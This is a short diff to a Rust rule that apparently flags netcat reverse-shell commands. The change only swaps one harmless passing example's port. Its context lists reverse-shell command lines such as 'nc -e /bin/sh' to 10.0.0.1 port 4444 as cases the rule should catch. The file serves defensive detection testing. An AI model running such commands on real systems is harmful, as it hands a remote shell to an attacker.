@@ -28,7 +28,7 @@ pub(crate) static RULE: Rule = Rule {
         "sudo nc -e /bin/sh 10.0.0.1 4444",
         "busybox nc 10.0.0.1 4444 -e sh",
     ],
-    passes: &["nc -zv localhost 5432", "nc -l 8080", "socat TCP-LISTEN:8080,fork TCP:localhost:3000", "socat - UNIX-CONNECT:/var/run/docker.sock"],
+    passes: &["nc -vz localhost 27017", "nc -l 8080", "socat TCP-LISTEN:8080,fork TCP:localhost:3000", "socat - UNIX-CONNECT:/var/run/docker.sock"],
 };
 
 fn check(cmd: &Command, _cx: &Context<'_>) -> Option<Hit> {
